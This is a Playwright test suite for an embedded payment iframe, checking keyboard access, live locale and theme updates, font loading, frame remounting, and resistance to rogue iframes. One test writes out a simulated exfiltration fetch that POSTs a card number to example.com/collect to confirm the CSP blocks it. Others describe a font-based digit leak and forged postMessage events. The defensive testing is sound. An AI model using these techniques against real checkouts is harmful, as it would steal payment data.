import { expect, test } from '@playwright/test';
import { TEST_VPAS, fillUpi, railFrame, selectPaymentMethod, waitForPaymentStatus, waitForRailReady } from '@rail/playwright';
import { API, elementEvents, pay, shown } from './support';

test('keyboard only: Tab into the frame, type the VPA, Enter submits the merchant form', async ({ page }) => {
  await page.goto('/checkout.html');
  await waitForRailReady(page);
  await expect(page.locator('#pay')).toBeEnabled();
  const frame = railFrame(page);
  // What has focus inside the frame, read in one evaluate (a locator for a field not rendered would wait).
  const active = () =>
    frame.locator('body').evaluate(() => {
      const element = document.activeElement as HTMLInputElement | null;
      return element ? `${element.type}:${element.value}:${element.id}` : '';
    });
  // From the top of the page, Tab until the UPI field has focus (no mouse anywhere). When the account offers
  // several methods, the selector is a radio group: arrow keys move to UPI, as in any radio group.
  await page.locator('body').focus();
  for (let i = 0; i < 12; i++) {
    await page.keyboard.press('Tab');
    let focused = await active();
    if (focused.endsWith(':rail-upi-vpa')) break;
    for (let step = 0; step < 6 && focused.startsWith('radio:') && !focused.startsWith('radio:upi_collect'); step++) {
      await page.keyboard.press('ArrowRight');
      focused = await active();
    }
  }
  await expect(frame.getByLabel('UPI ID', { exact: true })).toBeFocused();
  await page.keyboard.type(TEST_VPAS.success);
  await page.keyboard.press('Enter');
  await expect(page.locator('#result')).toHaveText('succeeded', { timeout: 20_000 });
  expect((await elementEvents(page)).some((entry) => entry.type === 'submit')).toBe(true);
});

test('locale and appearance switch live: French labels, and a computed style changes', async ({ page }) => {
  await page.goto('/checkout.html');
  const frame = await waitForRailReady(page);
  await selectPaymentMethod(page, 'UPI');
  const input = frame.getByLabel('UPI ID', { exact: true });
  const radiusBefore = await input.evaluate((el) => getComputedStyle(el).borderTopLeftRadius);
  const colorBefore = await input.evaluate((el) => getComputedStyle(el).backgroundColor);
  await page.evaluate(() => {
    const { elements } = (window as never as { __rail: { elements: { update(options: object): void } } }).__rail;
    elements.update({ locale: 'fr', appearance: { theme: 'night', variables: { borderRadius: '14px' } } });
  });
  await expect(frame.getByLabel('Identifiant UPI', { exact: true })).toBeVisible();
  await expect(frame.locator('.Amount-label')).toHaveText('Montant à payer');
  const french = frame.getByLabel('Identifiant UPI', { exact: true });
  await expect.poll(() => french.evaluate((el) => getComputedStyle(el).borderTopLeftRadius)).toBe('14px');
  expect(radiusBefore).not.toBe('14px');
  expect(await french.evaluate((el) => getComputedStyle(el).backgroundColor)).not.toBe(colorBefore);
});

test('a fonts cssSrc gives the frame its @font-face rules only, and the faces that draw digits load before anything is typed', async ({ page }) => {
  const fontRequests: string[] = [];
  page.on('request', (request) => {
    const { pathname } = new URL(request.url());
    if (pathname.startsWith('/fonts/') && pathname.endsWith('.woff2')) fontRequests.push(pathname);
  });
  await page.goto('/checkout.html?fonts=spy');
  const frame = await waitForRailReady(page);
  // One face per digit, loaded only when drawn, would tell the font server the digits of a card number.
  await expect.poll(() => fontRequests.filter((path) => /^\/fonts\/digit-\d\.woff2$/.test(path)).length).toBe(10);
  expect(fontRequests).not.toContain('/fonts/cyrillic.woff2');
  await selectPaymentMethod(page, 'UPI');
  expect(await frame.getByLabel('UPI ID', { exact: true }).evaluate((el) => getComputedStyle(el).outlineWidth)).not.toBe('7px');
});

test("the frame's CSP lets it reach its API and the origins its URL declares (a font stylesheet here), and nothing else", async ({ page }) => {
  const violations: string[] = [];
  page.on('console', (message) => {
    if (/Content Security Policy/i.test(message.text())) violations.push(message.text());
  });
  await page.goto('/checkout.html?fonts=spy');
  const iframe = page.locator('#payment iframe');
  // The font stylesheet's origin is declared in the frame URL's query (runtime/src/payment-element.ts).
  await expect(iframe).toHaveAttribute('src', /\/frame\/\?connect=http%3A%2F%2Flocalhost%3A\d+#/);
  await expect(iframe.contentFrame().locator('.Form').first()).toBeVisible();
  expect(violations).toEqual([]);
  // A request that an injected script could send with the card: refused by the frame's own policy, before any network.
  const frame = page.frames().find((candidate) => candidate.url().includes('/frame/'))!;
  await frame.evaluate(() => fetch('https://example.com/collect', { method: 'POST', body: '4242' }).catch(() => {}));
  await expect.poll(() => violations.join('\n')).toMatch(/https:\/\/example\.com\/collect' violates the following Content Security Policy directive: "connect-src /);
});

test('unmount and remount: a new frame connects and the payment still works', async ({ page }) => {
  // The handshake names exact origins (protocol/frame-handshake.ts); a message to a window not yet at that origin
  // would make the browser log a mismatch.
  const consoleLines: string[] = [];
  page.on('console', (message) => consoleLines.push(message.text()));
  await page.goto('/checkout.html');
  await waitForRailReady(page);
  // The frame shows its methods before its `ready` message reaches the page; an unmount in between drops that
  // message with the frame. The page enables #pay on `ready`: the first mount's has arrived once it is enabled.
  await expect(page.locator('#pay')).toBeEnabled();
  await page.evaluate(() => {
    const { element } = (window as never as { __rail: { element: { unmount(): unknown; mount(target: string): unknown } } }).__rail;
    element.unmount();
    element.unmount();
  });
  await expect(page.locator('#payment iframe')).toHaveCount(0);
  await page.evaluate(() => {
    (window as never as { __rail: { element: { mount(target: string): unknown } } }).__rail.element.mount('#payment');
  });
  await expect(page.locator('#payment iframe')).toHaveCount(1);
  await fillUpi(page, TEST_VPAS.success);
  expect((await pay(page)).text).toBe('succeeded');
  // One ready per mount.
  await expect.poll(async () => (await elementEvents(page)).filter((entry) => entry.type === 'ready').length).toBe(2);
  expect(consoleLines.filter((line) => /postMessage|target origin/i.test(line))).toEqual([]);
});

for (const instances of [1, 2]) {
  test(`two payment elements on one page, ${instances} Rail instance(s): both pay their own payment`, async ({ page }) => {
    await page.goto(`/two-elements.html?instances=${instances}`);
    await expect(page.locator('iframe[src*="/frame/#"]')).toHaveCount(2);
    await fillUpi(page, TEST_VPAS.success, { index: 0 });
    await fillUpi(page, TEST_VPAS.failure, { index: 1 });
    await expect(page.locator('#pay-1')).toBeEnabled();
    await expect(page.locator('#pay-2')).toBeEnabled();
    await page.locator('#pay-1').click();
    await page.locator('#pay-2').click();
    await expect(page.locator('#result-1')).toHaveText('succeeded', { timeout: 20_000 });
    await expect(page.locator('#result-2')).toHaveText(shown('failed'), { timeout: 20_000 });
    const [first, second] = await Promise.all([page.locator('#result-1').getAttribute('data-payment-id'), page.locator('#result-2').getAttribute('data-payment-id')]);
    expect(first).not.toBe(second);
    await waitForPaymentStatus(API, first!, 'succeeded');
    await waitForPaymentStatus(API, second!, 'failed');
    expect(await page.locator('iframe[title="Payment 1"]').count()).toBe(1);
  });
}

for (const rogue of ['cross', 'same'] as const) {
  test(`a rogue ${rogue}-origin iframe posting penpal-looking messages changes nothing`, async ({ page }) => {
    await page.goto(`/checkout.html?rogue=${rogue}`);
    await waitForRailReady(page);
    // Let the rogue fire a few rounds at both the merchant page and the payment frame.
    const rogueFrame = page.frameLocator('iframe[title="rogue"]');
    await expect(rogueFrame.locator('body')).toContainText('Rogue frame');
    await expect.poll(() => page.frame({ url: /rogue-frame/ })?.title(), { timeout: 10_000 }).toMatch(/rogue sent ([3-9]|\d\d)/);
    await fillUpi(page, TEST_VPAS.success);
    const { text, paymentId } = await pay(page);
    expect(text).toBe('succeeded');
    await waitForPaymentStatus(API, paymentId, 'succeeded');
    const events = await elementEvents(page);
    // Forged submit/escape events reached no handler; the forged resize did not stretch the frame; the forged
    // locale update did not reach the frame.
    expect(events.filter((entry) => entry.type === 'submit' || entry.type === 'escape')).toEqual([]);
    expect(events.filter((entry) => entry.type === 'ready')).toHaveLength(1);
    expect(await page.locator('#payment iframe').evaluate((el) => el.getBoundingClientRect().height)).toBeLessThan(1000);
    await expect(railFrame(page).getByLabel('UPI ID', { exact: true })).toBeVisible();
    // The forged messages did arrive at the merchant window (so the test is not vacuous).
    const messages: { data: string }[] = await page.evaluate(() => (window as never as { __railMessages: [] }).__railMessages);
    expect(messages.some((message) => message.data.includes('rogue'))).toBe(true);
  });
}
